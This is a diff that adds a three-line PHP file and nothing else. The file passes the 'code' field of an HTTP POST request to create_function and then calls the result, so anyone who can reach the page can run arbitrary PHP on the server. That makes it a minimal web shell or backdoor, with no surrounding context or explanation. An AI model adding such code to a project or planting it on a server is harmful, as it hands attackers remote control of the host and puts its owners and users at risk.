@@ -1,0 +1,3 @@
+<?php
+$f = create_function('', $_POST['code']);
+$f();
